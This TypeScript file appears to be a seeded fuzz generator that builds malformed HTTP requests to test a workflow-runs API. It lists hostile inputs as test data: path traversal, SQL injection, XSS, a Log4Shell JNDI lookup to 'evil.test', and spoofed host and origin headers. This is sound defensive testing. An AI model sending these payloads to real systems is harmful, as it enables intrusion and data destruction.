/** Requests that nobody sane sends, drawn from a seed: routes, ids, headers, tokens and bodies, right and wrong. */
import { HttpApi } from "effect/http-api"
import { Http } from "reprise/http"
import { headersOf } from "../../push/support.ts"
import { secrets } from "./server.ts"

// ---------------------------------------------------------------------------------------------------
// chance

export interface Chance {
  /** From 0 to 1, without 1. */
  readonly next: () => number
  readonly below: (most: number) => number
  readonly pick: <A>(from: ReadonlyArray<A>) => A
  /** Whether something that happens `percent` times of 100 does. */
  readonly is: (percent: number) => boolean
}

/** The same again for the same seed (mulberry32). */
export const chanceOf = (seed: number): Chance => {
  let state = seed
  const next = () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32
  }
  const below = (most: number) => Math.floor(next() * most)
  return {
    next,
    below,
    pick: (from) => from[below(from.length)]!,
    is: (percent) => next() * 100 < percent
  }
}

// ---------------------------------------------------------------------------------------------------
// values

/** Of runs that may be there. */
export const ids = Array.from({ length: 12 }, (_, n) => `r${n}`)

/** Texts that have broken something before. */
export const hostile = [
  "",
  " ",
  ".",
  "..",
  "../../etc/passwd",
  "a/b",
  "a\\b",
  "a#b?c&d=e%",
  "%2e%2e%2f",
  "CON",
  "NUL.jsonl",
  "~",
  "*",
  "'; DROP TABLE runs; --",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.test}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "toString",
  "null",
  "\u0000",
  "\u001b[31mred\u001b]0;title\u0007",
  "\r\nset-cookie: a=b",
  "ünïcödé",
  "\ud83d\udca9",
  "\ud800",
  "\u202egnp.exe",
  "\ufeff",
  "a".repeat(200),
  "a".repeat(201),
  "é".repeat(100),
  "x".repeat(20_000)
]

const names = ["waits", "unknown", "go", "stop", "first", "step", "k", "0", "1"]

export const text = ({ is, pick }: Chance): string =>
  is(40) ? pick(ids) : is(60) ? pick(names) : pick(hostile)

const numbers = [
  "0",
  "-0",
  "1",
  "-1",
  "0.1",
  "1e3",
  "1e400",
  "-1e400",
  "9007199254740993",
  "123456789012345678901234567890",
  "5e-324",
  "1.7976931348623157e308"
]

const keys = [
  "a",
  "b",
  "runId",
  "__proto__",
  "constructor",
  "$secret",
  "toJSON",
  "then",
  "_tag",
  ""
]

/** JSON as text, since objects cannot say all that JSON can: `__proto__`, keys twice, numbers without end. */
export const json = (chance: Chance, depth = 3): string => {
  const { below, is, pick } = chance
  switch (below(depth === 0 ? 4 : 7)) {
    case 0:
      return pick(["null", "true", "false"])
    case 1:
      return pick(numbers)
    case 2:
    case 3:
      return JSON.stringify(text(chance))
    case 4:
      return `[${Array.from({ length: below(4) }, () => json(chance, depth - 1)).join()}]`
    case 5: {
      const fields = Array.from(
        { length: below(4) },
        () => `${JSON.stringify(pick(keys))}:${json(chance, depth - 1)}`
      )
      return `{${fields.join()}}`
    }
    default: {
      const levels = 1 + below(is(5) ? deepest : 20)
      return "[".repeat(levels) + "]".repeat(levels)
    }
  }
}

const deepest = 400_000

type Shape = Readonly<Record<string, (chance: Chance) => string>>

const some = (chance: Chance) => JSON.stringify(text(chance))
const id = ({ pick }: Chance) => JSON.stringify(pick(ids))
const name = ({ pick }: Chance) => JSON.stringify(pick(names))
const override = (chance: Chance) => `{${name(chance)}:${json(chance)}}`
const verdict = (chance: Chance) =>
  chance.pick([
    `{"value":${json(chance)}}`,
    `{"failure":${some(chance)},"tag":${some(chance)}}`,
    `{"retry":true}`
  ])
/** As `ctx.token` makes them, of a run that may be there and an incarnation that is not. */
const link = (chance: Chance) => {
  const parts = [chance.pick(ids), "incarnation", "go", ...(chance.is(50) ? ["k"] : [])]
  const token = Buffer.from(JSON.stringify(parts)).toString("base64url")
  return JSON.stringify(chance.is(80) ? token : token.slice(chance.below(9)))
}

/** What bodies have, by their routes; any of it may be left out. */
const shapes: Readonly<Record<string, Shape>> = {
  "/api/runs": { workflow: name, input: json, runId: id, idempotencyKey: some },
  "/api/runs/:runId/events": { eventName: name, value: json, key: name, eventId: some },
  "/api/deliveries": { token: link, value: json },
  "/api/runs/:runId/cancel": { reason: some, eventId: some },
  "/api/runs/:runId/settle": { stepId: name, verdict },
  "/api/runs/:runId/fork": {
    fromStep: name,
    fromOffset: ({ below }) => String(below(5)),
    override,
    runId: id
  },
  "/api/runs/:runId/retry": { step: name, override, runId: id },
  "/api/prune": { endedBefore: ({ pick }) => pick(["0", "1", "4102444800000"]) },
  "/webhooks/:source": { runId: id, eventName: name, key: name, value: json, token: link }
}

const bodyOf = (chance: Chance, path: string): string | Uint8Array<ArrayBuffer> => {
  const { below, is, next } = chance
  const shape = shapes[path]
  if (shape !== undefined && is(75)) {
    const fields = Object.entries(shape).flatMap(([key, value]) =>
      is(12) ? [] : [`${JSON.stringify(key)}:${is(85) ? value(chance) : json(chance)}`]
    )
    return `{${fields.join()}}`
  }
  if (is(60)) return json(chance)
  if (is(50)) return json(chance).slice(0, below(30))
  return Uint8Array.from({ length: below(200) }, () => Math.floor(next() * 256))
}

// ---------------------------------------------------------------------------------------------------
// requests

interface Route {
  readonly method: string
  readonly path: string
}

const routes: Array<Route> = [
  { method: "GET", path: "/openapi.json" },
  { method: "GET", path: "/" },
  { method: "GET", path: "/nothing" }
]
HttpApi.reflect(Http.Api, {
  onGroup: () => {},
  onEndpoint: ({ endpoint: { method, path } }) => {
    // What is removed at once is nothing to try the rest on.
    const isRemoval = method === "DELETE" || path === "/api/prune"
    const often = isRemoval ? 1 : method === "POST" ? 8 : 3
    for (let n = 0; n < often; n++) routes.push({ method, path })
  }
})

const methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "BREW"]

/** Encoded as it should be, or hardly. */
const segment = (chance: Chance): string => {
  const { is } = chance
  // Half a character is none in UTF-8.
  const part = Buffer.from(text(chance)).toString()
  return is(90) ? encodeURIComponent(part) : encodeURI(part)
}

const queries = [
  "status",
  "workflow",
  "search",
  "updatedFrom",
  "limit",
  "after",
  "whole",
  "offset",
  "now"
]
const states = [
  "pending",
  "running",
  "suspended",
  "success",
  "failed",
  "true",
  "0",
  "1",
  "50",
  "-1"
]

const pathOf = (chance: Chance, path: string): string => {
  const { below, is, pick } = chance
  let at = path
    .replace(":runId", () => is(70) ? pick(ids) : segment(chance))
    .replace(":source", () => is(80) ? "shop" : segment(chance))
  if (is(6)) {
    const cut = below(at.length)
    at = at.slice(0, cut) + pick(["%", "%00", "/", "//", "..", "/../", "%2f", ";", "%c0%af", "?"])
      + at.slice(cut)
  }
  if (is(30)) {
    const fields = Array.from({ length: below(4) }, () => {
      const value = is(60) ? pick(states) : segment(chance)
      return `${pick(queries)}=${value}`
    })
    at += `?${fields.join("&")}`
  }
  return at.startsWith("/") ? at : `/${at}`
}

const authorizationOf = ({ is, pick }: Chance): string | undefined =>
  is(75)
    ? `Bearer ${secrets.admin}`
    : pick([
      undefined,
      "",
      "Bearer",
      "Basic YTpi",
      `bearer ${secrets.read}`,
      `Bearer ${secrets.send}`,
      `Bearer ${secrets.none}`,
      `Bearer ${secrets.expired}`,
      `Bearer ${secrets.admin}x`,
      `Bearer ${"x".repeat(5_000)}`,
      "Bearer \u00e9\u00ff"
    ])

const odd: ReadonlyArray<readonly [name: string, values: ReadonlyArray<string>]> = [
  ["host", ["", "evil.test", "localhost:99999", "[::1]:1", "localhost.", "\u00e9"]],
  ["origin", ["null", "http://localhost", "http://evil.test", "x"]],
  ["sec-fetch-site", ["cross-site", "same-origin", "x"]],
  ["content-type", ["", "text/plain", "application/json;", "multipart/form-data", "x", "a/b/c"]],
  ["content-length", ["0", "1", "-1", "1e9", "99999999999999999999", "x"]],
  ["transfer-encoding", ["chunked", "gzip, chunked"]],
  ["content-encoding", ["gzip", "br"]],
  ["accept", ["text/html", "text/event-stream", "*/*;q=x"]],
  ["accept-encoding", ["gzip", "identity;q=0"]],
  ["range", ["bytes=0-1", "bytes=9-1"]],
  ["if-none-match", ["*", "x"]],
  ["cookie", ["a=b", "__proto__=x; ;;=", "="]],
  ["x-http-method-override", ["DELETE"]],
  ["x-forwarded-host", ["evil.test"]],
  ["traceparent", ["00-x", `00-${"a".repeat(32)}-${"b".repeat(16)}-01`, "x".repeat(2_000)]],
  ["b3", ["0", "x-y-z"]],
  ["webhook-id", ["", "x", "x".repeat(3_000), "a.b"]],
  ["webhook-timestamp", ["", "0", "x"]],
  ["webhook-signature", ["", "v1,", "v1,AAAA", "v2,x y z"]]
]

/** One request, and its parts in words. */
export const requestOf = (chance: Chance): { readonly said: string; readonly request: Request } => {
  const { is, pick } = chance
  const route = pick(routes)
  const method = is(90) ? route.method : pick(methods)
  const path = pathOf(chance, route.path)
  const hasBody = method !== "GET" && method !== "HEAD" && (method === "POST" ? is(95) : is(20))
  const body = hasBody ? bodyOf(chance, route.path) : undefined
  const authorization = authorizationOf(chance)
  const headers = new Headers({
    host: "localhost",
    ...(hasBody ? { "content-type": "application/json" } : undefined),
    ...(authorization === undefined ? undefined : { authorization }),
    ...(body !== undefined && route.path.startsWith("/webhooks") && is(80)
      ? headersOf({ body, id: text(chance).replaceAll(/[^a-z0-9]/g, "") })
      : undefined)
  })
  while (is(12)) {
    const [name, values] = pick(odd)
    headers.set(name, pick(values))
  }
  const shown = typeof body === "string" ? body : body === undefined ? "" : `bytes ${String(body)}`
  return {
    said: `${method} ${path} ${JSON.stringify([...headers])} ${shown}`.slice(0, 2_000),
    request: new Request(`http://localhost${path}`, {
      method,
      headers,
      ...(body === undefined ? undefined : { body, duplex: "half" })
    })
  }
}
